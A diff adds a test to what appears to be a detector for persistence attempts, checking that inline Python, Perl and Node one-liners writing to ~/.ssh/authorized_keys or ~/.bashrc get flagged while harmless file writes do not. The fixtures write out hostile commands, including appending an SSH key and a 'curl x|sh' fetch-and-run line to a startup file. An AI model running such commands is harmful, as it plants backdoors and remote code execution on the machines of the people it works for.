@@ -108,3 +108,40 @@ test("persist.install: a sh -c script's own redirection into a start-up file, ra
   ])
     assert.deepEqual(run(argv, pythonParent), [], argv.join(' '));
 });
+
+test('persist.install: inline interpreter code that names a start-up file and writes; reading one, or writing elsewhere, is not', () => {
+  const key = run(
+    [
+      'python3',
+      '-c',
+      "import os; open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA x\\n')",
+    ],
+    operator,
+  );
+  assert.equal(key[0]?.[0], 'high');
+  assert.match(key[0]![1], /writes ~\/\.ssh\/authorized_keys/);
+  assert.equal(
+    run(
+      ['python3', '-c', "import os; open(os.path.join(os.environ['HOME'], '.ssh', 'authorized_keys'), 'a').write(k)"],
+      operator,
+    )[0]?.[0],
+    'high',
+  );
+  assert.equal(
+    run(['perl', '-e', 'open(F, ">>", "$ENV{HOME}/.bashrc"); print F "curl x|sh\\n"'], operator)[0]?.[0],
+    'medium',
+  );
+  assert.equal(
+    run(
+      ['node', '-e', "require('fs').appendFileSync(require('os').homedir()+'/.ssh/authorized_keys', k)"],
+      operator,
+    )[0]?.[0],
+    'high',
+  );
+  for (const argv of [
+    ['python3', '-c', "import os; print(open(os.path.expanduser('~/.bashrc')).read())"],
+    ['python3', '-c', "open('train.log', 'a').write('step 1\\n')"],
+    ['python3', '-c', 'import json; json.dump({"lr": 1e-4}, open("config.json", "w"))'],
+  ])
+    assert.deepEqual(run(argv, agent), [], argv.join(' '));
+});
